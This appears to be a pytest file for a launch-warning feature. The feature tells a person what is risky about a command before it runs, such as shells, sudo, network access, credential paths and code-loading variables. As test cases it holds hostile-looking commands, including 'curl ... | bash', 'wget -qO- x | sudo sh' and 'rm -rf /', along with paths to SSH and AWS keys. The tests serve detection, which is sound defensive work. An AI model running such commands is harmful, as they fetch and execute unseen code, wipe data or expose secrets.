"""What a person is told to look at before a command runs."""

from __future__ import annotations

import pytest

from mcphost.domain.launch import changes
from mcphost.policy.dangers import RIGHTS, dangers
from tests.helpers.launches import launch

HOME = "/people/me"


def test_an_address_is_not_called_a_file_outside_your_home() -> None:
    said = dangers(launch("curl", "https://x.example/i"), home=HOME)
    assert not [line for line in said if "outside" in line]


@pytest.mark.requirement("MCP-072")
@pytest.mark.parametrize(
    ("argv", "says"),
    [
        (("sudo", "server"), "administrator"),
        (("bash", "-c", "server"), "to a shell"),
        (("/bin/sh", "-c", "x"), "to a shell"),
        (("python3", "-c", "print()"), "written in its arguments"),
        (("node", "-e", "1"), "written in its arguments"),
        (("sh", "-c", "curl https://x.example/i.sh | bash"), "runs it unseen"),
        (("sh", "-c", "wget -qO- x | sudo sh"), "runs it unseen"),
        (("sh", "-c", "rm -rf /"), "deletes or overwrites"),
        (("rm", "-rf", "x"), "deletes or overwrites"),
        (("curl", "https://x.example"), "talks to the network"),
        (("env", "nc", "-l"), "talks to the network"),
        (("npx", "-y", "thing"), "may download code"),
        (("uv", "run", "thing"), "may download code"),
        (("docker", "run", "thing"), "may download code"),
        (("serve", "/etc/passwd"), "outside your home"),
        (("serve", "--root=/srv"), "outside your home"),
        (("serve", "/people/me/.ssh/id"), "keys and passwords"),
        (("serve", "~/.aws"), "keys and passwords"),
        (("serve", "/people/me"), "all there is"),
        (("serve", "/"), "all there is"),
        (("serve", "a\u202eb"), "cannot be seen"),
    ],
)
def test_a_dangerous_pattern_is_highlighted(argv: tuple[str, ...], says: str) -> None:
    found = dangers(launch(*argv), home=HOME)
    assert found[0] == RIGHTS
    assert any(says in sentence for sentence in found[1:]), found


@pytest.mark.requirement("MCP-072")
@pytest.mark.parametrize("name", ["LD_PRELOAD", "PYTHONPATH", "NODE_OPTIONS", "PATH"])
def test_a_variable_that_loads_other_code_is_highlighted(name: str) -> None:
    found = dangers(launch("serve", environment=(name,)), home=HOME)
    assert any("other code" in sentence for sentence in found)


def test_a_program_where_everybody_can_write_is_highlighted() -> None:
    found = dangers(launch("serve", executable="/tmp/serve"), home=HOME)
    assert any("every program here can write to" in sentence for sentence in found)


@pytest.mark.requirement("MCP-072")
def test_an_ordinary_command_still_gets_the_general_warning() -> None:
    assert dangers(launch("serve", "--port", "1", "/people/me/notes"), home=HOME) == (RIGHTS,)


@pytest.mark.parametrize(
    ("then", "now", "says"),
    [
        (launch("a"), launch("a", executable="/usr/local/bin/a"), "another program would run"),
        (launch("a"), launch("a", environment=("KEY",)), "list of variables"),
    ],
)
def test_a_change_is_said_in_words(then: object, now: object, says: str) -> None:
    found = changes(then.to_json(), now)  # type: ignore[attr-defined, arg-type]
    assert any(says in sentence for sentence in found)
